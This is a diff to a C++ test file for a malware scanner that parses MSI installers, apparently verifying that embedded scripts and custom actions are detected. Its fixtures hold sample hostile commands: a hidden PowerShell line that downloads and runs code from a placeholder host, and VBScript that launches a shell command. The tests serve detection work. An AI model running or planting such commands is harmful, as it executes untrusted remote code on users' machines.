@@ -2,7 +2,6 @@
 #include <doctest/doctest.h>
 
 #include "content/office/made_ole.h"
-#include "content/readers.h"
 #include "content/testing.h"
 
 namespace sekisho::content {
@@ -44,23 +43,12 @@ std::string installer(std::uint32_t type, const std::string& source, const std::
                              {coded("Binary.run", false), "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c calc\"\r\nOn Error Resume Next\r\nDim a\r\n"}, {coded("media1.cab", false), std::string("MSCF\0\0\0\0", 8) + std::string(80, 'x')}});
   return root;
 }
-Document read_installer_file(const std::string& bytes) {
-  Document document;
-  document.add_part(-1, PartOrigin::root);
-  document.parts[0].data = bytes;
-  document.parts[0].kind = "msi";
-  Budget budget;
-  for (const auto& entry : readers()) {
-    if (entry.kind == "msi") entry.read(document, 0, {}, budget);
-  }
-  return document;
-}
 
 }  // namespace
 
 TEST_CASE("streams of an installer are found under their names, scripts too") {
   const auto bytes = installer(1, "x", "y");
-  const auto document = read_installer_file(bytes);
+  const auto document = read_as_kind(bytes, "msi");
   REQUIRE(document.parts.size() == 3);
   std::vector<std::string_view> names{document.parts[1].filename, document.parts[2].filename};
   std::sort(names.begin(), names.end());
@@ -70,19 +58,19 @@ TEST_CASE("streams of an installer are found under their names, scripts too") {
 
 TEST_CASE("what an installer's actions run is told") {
   const auto bytes = installer(50, "x", "powershell -w hidden iex (iwr https://far.example/x)");
-  const auto document = read_installer_file(bytes);
+  const auto document = read_as_kind(bytes, "msi");
   CHECK(has_trait(document, "installer.command"));
   CHECK(has_trait(document, "script.download"));
   CHECK(links_to(document, "https://far.example/x"));
   const auto script = installer(38, "x", "CreateObject(\"WScript.Shell\").Run \"cmd /c calc\"");
-  CHECK(has_trait(read_installer_file(script), "script.shell"));
+  CHECK(has_trait(read_as_kind(script, "msi"), "script.shell"));
 }
 
 TEST_CASE("every beginning of an installer is read as far as it goes") {
   const auto whole = installer(50, "x", "cmd /c y");
   for (std::size_t n = 512; n < whole.size(); n += 7) {
     const auto cut = whole.substr(0, n);
-    CHECK(read_installer_file(cut).parts.size() <= 4);
+    CHECK(read_as_kind(cut, "msi").parts.size() <= 4);
   }
 }
 
